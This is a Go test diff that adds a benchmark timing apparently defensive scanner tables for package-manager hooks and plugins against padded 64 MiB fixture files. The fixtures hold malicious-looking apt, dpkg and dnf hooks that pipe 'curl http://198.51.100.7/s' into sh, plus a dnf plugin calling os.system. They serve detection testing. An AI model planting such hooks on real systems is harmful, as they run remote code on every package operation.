@@ -3,8 +3,10 @@ package registry
 import (
 	"context"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -91,4 +93,74 @@ func BenchmarkTablesPer1000Files(b *testing.B) {
 		})
 	}
 	b.Logf("root: %d files", files)
+}
+
+// BenchmarkPaddedPerMiB measures what a padded file costs each table that
+// reads it: one planted file of 64 MiB (the hook or plugin, then comment
+// padding) on an otherwise empty root. It reports the table's time per MiB
+// and, as the baseline in the same run, as a multiple of reading the same
+// file once (io.Copy to nowhere).
+func BenchmarkPaddedPerMiB(b *testing.B) {
+	const size = 64 << 20
+	pad := func(head, comment string) []byte {
+		line := comment + " " + strings.Repeat("padding ", 9) + "\n"
+		data := make([]byte, 0, size+len(line))
+		data = append(data, head...)
+		for len(data) < size {
+			data = append(data, line...)
+		}
+		return data
+	}
+	cases := []struct {
+		table, file string
+		data        []byte
+	}{
+		{"apt_hooks", "etc/apt/apt.conf.d/50padded.conf", pad("DPkg::Post-Invoke { \"curl -s http://198.51.100.7/s | sh\"; };\n", "//")},
+		{"dpkg_hooks", "etc/dpkg/dpkg.cfg.d/padded", pad("post-invoke=curl -s http://198.51.100.7/s | sh\n", "#")},
+		{"dnf_plugins", "usr/lib/python3/dist-packages/dnf-plugins/padded.py", pad("import dnf, os\n\nclass Padded(dnf.Plugin):\n    name = 'padded'\n    os.system('id')\n", "#")},
+		{"package_manager_actions", "etc/dnf/plugins/post-transaction-actions.d/padded.action", pad("*:any:curl -s http://198.51.100.7/s | sh\n", "#")},
+	}
+	tables := map[string]*table.Table{}
+	for _, t := range Tables() {
+		tables[t.Name] = t
+	}
+	for _, c := range cases {
+		b.Run(c.table, func(b *testing.B) {
+			root := b.TempDir()
+			p := filepath.Join(root, c.file)
+			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+				b.Fatal(err)
+			}
+			if err := os.WriteFile(p, c.data, 0o644); err != nil {
+				b.Fatal(err)
+			}
+			q := table.QueryContext{Constraints: map[string][]table.Constraint{"root": {{Op: table.Equals, Expr: root}}}}
+			var spent, base time.Duration
+			for i := 0; i < b.N; i++ {
+				start := time.Now()
+				f, err := os.Open(p)
+				if err != nil {
+					b.Fatal(err)
+				}
+				io.Copy(io.Discard, f)
+				f.Close()
+				base += time.Since(start)
+				start = time.Now()
+				ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+				rows, err := tables[c.table].Run(ctx, q)
+				cancel()
+				if err != nil {
+					b.Fatal(err)
+				}
+				for _, r := range rows {
+					if strings.Contains(r["reason"], "not evaluated") {
+						b.Fatalf("not evaluated: %v", r)
+					}
+				}
+				spent += time.Since(start)
+			}
+			b.ReportMetric(float64(spent.Microseconds())/float64(b.N)/float64(size>>20), "µs/MiB")
+			b.ReportMetric(float64(spent)/float64(base), "x-read-once")
+		})
+	}
 }
